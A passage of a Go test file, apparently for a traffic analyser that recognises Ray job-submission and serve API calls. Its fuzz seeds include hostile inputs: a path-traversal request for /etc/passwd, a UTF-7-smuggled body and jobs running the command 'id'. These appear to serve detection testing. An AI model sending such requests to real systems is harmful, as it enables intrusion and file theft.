		}
	}); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestCallOwnsItsMemory(t *testing.T) {
	b := post(`{"entrypoint": "python a.py", "submission_id": "abc", "runtime_env": {"working_dir": "s3://x/y"}}`).build()
	c := Interpret(b)
	before := fmt.Sprintf("%q %q %+v", c.Entrypoint, c.SubmissionID, c.RuntimeEnv)
	for i := range b.Request.Body.Data {
		b.Request.Body.Data[i] = 'X'
	}
	for i := range b.Response.Body.Data {
		b.Response.Body.Data[i] = 'X'
	}
	if after := fmt.Sprintf("%q %q %+v", c.Entrypoint, c.SubmissionID, c.RuntimeEnv); after != before {
		t.Errorf("%s\n%s", before, after)
	}
}

func FuzzInterpret(f *testing.F) {
	f.Add("POST", "/api/jobs/", "application/json", []byte(`{"entrypoint":"id","runtime_env":{"pip":["a"]}}`), []byte(okJob), 200)
	f.Add("POST", "/ray/../api/jobs", "application/json; charset=utf-7", []byte(`+AHs-"entrypoint":"\u0063"}`), []byte(``), 0)
	f.Add("PUT", "/api/serve/applications/", "", []byte(`{"applications":[{"import_path":"a:b"}]}`), []byte(``), 200)
	f.Add("POST", "/get_or_create_runtime_env", "", []byte("\x0a\x05{\"a\":"), []byte(``), 500)
	f.Add("GET", "/static/js/../../%2e%2e/etc/passwd", "", []byte(``), []byte("root:x:0:0:"), 200)
	f.Add("GET", "/api/version", "", []byte(``), []byte(`{"ray_version":"1","data":{"snapshot":{"rayVersion":"2"}}}`), 200)
	f.Fuzz(func(t *testing.T, method, target, ctype string, body, got []byte, status int) {
		b := tx{method: method, target: target, header: "Content-Type: " + ctype + "\n", status: status, answer: aiohttp + json, port: 8265}.build()
		b.Request.Body.Data, b.Request.Body.Len = body, int64(len(body))
		if b.Response != nil {
			b.Response.Body.Data = got
		}
		KeepBody(b, false)
		KeepBody(b, true)
		c := Interpret(b)
		if c == nil {
			return
		}
		if len(c.Entrypoint) > maxEntrypoint+8 || len(c.Params) > maxParams || len(c.RuntimeEnv.EnvNames) > maxList || len(c.Path) > maxTarget {
			t.Error("a bound does not hold")
		}
		c.Row(&fields{})
	})
}

// Over HTTP/2 the path may have been said before the capture began.
func TestJobToAPathThatIsUnknown(t *testing.T) {
	unknown := func(body, got string) *Call {
		b := post(body)
		b.target, b.header, b.answer, b.got = "", "", json, got
		b.change = func(t *http.Transaction) { t.Request.Partial, t.Request.Version = true, "2" }
		x := b.build()
		if KeepBody(x, false) == 0 || KeepBody(x, true) == 0 {
			t.Error("bodies are not kept")
		}
		return Interpret(x)
	}
	c := unknown(`{"entrypoint": "id"}`, okJob)
	if c == nil || !c.Job || c.Entrypoint != "id" || c.Outcome != Executed || c.Auth != "" || c.Route != "" || c.Path != "" {
		t.Errorf("%+v", c)
	}
	if c := unknown(`{"entrypoint": "id", "color": 1}`, okJob); c != nil {
		t.Errorf("somebody else's: %+v", c)
	}
	if c := unknown(`{"entrypoint": "id"}`, `{"ok": true}`); c != nil {
		t.Errorf("nothing says that it is Ray: %+v", c)
	}
}
